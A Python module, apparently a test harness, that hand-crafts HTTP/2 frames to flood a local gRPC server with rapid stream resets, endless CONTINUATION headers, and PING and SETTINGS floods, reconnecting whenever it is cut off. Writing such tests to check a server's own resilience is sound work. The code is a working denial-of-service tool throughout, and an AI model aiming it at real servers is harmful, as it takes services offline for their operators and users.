"""Frames of HTTP/2, written by hand: what no honest client sends."""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that is in no table, and does not go into one."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The headers of a call."""
    fixed = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x")]
    rest = [(b"content-type", b"application/grpc"), (b"te", b"trailers"), *more]
    return b"".join(literal(name, value) for name, value in fixed + rest)


def opened(port: int) -> socket.socket:
    """A connection on which the preface and empty settings were said."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def answered(connection: socket.socket, stream: int) -> bool:
    """Whether the other side ends `stream`, by an answer or a reset, in time."""
    connection.settimeout(5)
    taken = b""
    try:
        while more := connection.recv(65536):
            taken += more
            while len(taken) >= 9:
                size = int.from_bytes(taken[:3], "big")
                if len(taken) < 9 + size:
                    break
                kind, flags, found = struct.unpack(">BBI", taken[3:9])
                ends = kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM)
                if found == stream and ends:
                    return True
                taken = taken[9 + size :]
    except OSError:
        pass
    return False


def flood(port: int, seconds: float, chunks) -> int:
    """Sends `chunks` for so long, on a new connection whenever one is closed.

    What comes back is not read, as by a client that means harm. Gives the
    number of bytes that went out.
    """
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end:
        try:
            with opened(port) as connection:
                connection.settimeout(0.5)
                for chunk in chunks():
                    if time.monotonic() > end:
                        return sent
                    connection.sendall(chunk)
                    sent += len(chunk)
        except OSError:
            # It was sent away, as it should be.
            continue
    return sent


def rapid_reset():
    """Streams that are opened and reset at once, without end."""
    headers = call(b"/Greeter/SayHello")
    for first in range(1, 1 << 30, 200):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream)
            + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            for stream in range(first, first + 200, 2)
        )


def continuation():
    """Headers that never end."""
    yield frame(HEADERS, 0, 1, call(b"/Greeter/SayHello"))
    padding = b"".join(literal(b"x-padding", b"y" * 100) for _ in range(100))
    while True:
        yield frame(CONTINUATION, 0, 1, padding)


def pings():
    """Questions whether the other side is there."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 500


def settings():
    """Settings that say nothing, each to be acknowledged."""
    while True:
        yield frame(SETTINGS, 0, 0) * 500
